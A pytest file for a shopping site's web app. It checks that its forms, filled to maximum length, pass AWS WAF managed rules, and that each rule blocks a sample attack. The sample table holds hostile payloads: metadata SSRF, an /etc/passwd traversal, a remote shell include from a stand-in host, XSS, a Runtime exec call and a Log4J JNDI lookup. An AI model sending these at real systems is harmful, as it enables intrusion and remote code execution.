"""Each form of our pages, filled with as much as it takes, against what AWS documents of its managed rules."""

import re
from uuid import UUID

import pytest

from .managed_rules import RULES, Request, refused
from .terraform import ROOT

WEB = ROOT / "src" / "marketday" / "web"
FORM = re.compile(r'<form[^>]*method="post"[^>]*action="(?P<action>(?:[^"{]|\{\{.*?\}\}|\{%.*?%\})*)"[^>]*>', re.DOTALL)
INPUT = re.compile(r'<(?:input|select|textarea)\b(?P<rest>[^>]*?)name="(?P<name>\w+)"(?P<more>[^>]*)', re.DOTALL)
MACROS = {"fields(": "admin_fields.html"}
# The widest text: a Korean letter takes nine characters in a form's body.
WIDE = "\uac00"
IDENTITY = "e" * 1_500  # a mall's identity: a JWT with an RSA signature
COOKIES = "; ".join(f"{name}={'c' * 1_500}" for name in ("entry", "admission", "identity")) + "; lang=ko"
# Fields without a length of their own, at their longest: ids and keys, SKUs (255), ways to pay, passwords, addresses.
KNOWN = {
    **dict.fromkeys(("key", "standby", "reservation"), str(UUID(int=2**128 - 1))),
    **dict.fromkeys(("sku", "email", "next"), "s" * 255),
    **dict.fromkeys(("quantity", "stock", "stock_was", "expected_total_minor"), "9" * 16),
    **dict.fromkeys(("method", "status", "category"), "m" * 60),
    "identity": IDENTITY,
    "password": WIDE * 128,
    "unlimited": "true",
    "body_html": WIDE * 5_000,
}
# Pages of staff: the mall's load balancer must not have these rules for them. Descriptions are HTML of up to 64 KB.
STAFF = re.compile(r"^/admin/")


def forms() -> list[tuple[str, str, dict[str, str]]]:
    """Return each form: its template, where it is sent, and its fields at their longest."""
    found = []
    for path in sorted(WEB.glob("*/templates/*.html")):
        text = path.read_text("utf-8")
        for start in FORM.finditer(text):
            inside = text[start.end() : text.index("</form>", start.end())]
            for call, macro in MACROS.items():
                if call in inside:
                    inside += (path.parent / macro).read_text("utf-8")
            action = re.sub(r"\{\{.*?\}\}", "x" * 60, start["action"])
            found.append((f"{path.parent.parent.name}/{path.name}", action, dict(map(longest, INPUT.finditer(inside)))))
    return found


def longest(found: re.Match[str]) -> tuple[str, str]:
    most = re.search(r'maxlength="(\d+)"', found["rest"] + found["more"])
    name = found["name"]
    if not most and name not in KNOWN:
        pytest.fail(f"the field {name} has no maxlength; add it to KNOWN with its longest value")
    return name, WIDE * int(most[1]) if most else KNOWN[name]


FORMS = forms()


@pytest.mark.parametrize(("template", "action", "fields"), FORMS, ids=[f"{each[0]} {each[1][:40]}" for each in FORMS])
def test_a_form_of_shoppers_passes_and_one_of_staff_may_not(template, action, fields):
    path, _, query = action.partition("?")
    found = refused(Request(path, fields, query, COOKIES))
    assert found == [] or (STAFF.match(path) and found == ["SizeRestrictions_BODY"]), template


def test_the_forms_are_found():
    assert {each[0].partition("/")[0] for each in FORMS} >= {"gate", "mall", "store"}
    assert len(FORMS) >= 15
    assert any(STAFF.match(each[1]) for each in FORMS)


ATTACKS = {
    "NoUserAgent_HEADER": Request("/", agent=""),
    "SizeRestrictions_QUERYSTRING": Request("/", query="q" * 2_049),
    "SizeRestrictions_Cookie_HEADER": Request("/", cookie="c" * 10_241),
    "SizeRestrictions_BODY": Request("/", {"title": WIDE * 1_000}),
    "SizeRestrictions_URIPATH": Request("/" + "p" * 1_024),
    "EC2MetaDataSSRF": Request("/", {"next": "http://169.254.169.254/latest"}),
    "GenericLFI": Request("/", query="file=..%2f..%2fetc/passwd"),
    "RestrictedExtensions": Request("/server.log"),
    "GenericRFI": Request("/", {"next": "http://192.0.2.7/shell"}),
    "CrossSiteScripting": Request("/", {"name": "<script>alert(1)</script>"}),
    "JavaDeserializationRCE": Request("/", {"x": "(java.lang.Runtime).getRuntime().exec('id')"}),
    "PROPFIND_METHOD": Request("/", method="PROPFIND"),
    "ExploitablePaths_URIPATH": Request("/WEB-INF/web.xml"),
    "Log4JRCE": Request("/", {"x": "${jndi:ldap://example.com/}"}),
}


@pytest.mark.parametrize("rule", RULES)
def test_each_rule_refuses_its_attack(rule):
    assert rule in refused(ATTACKS[rule])
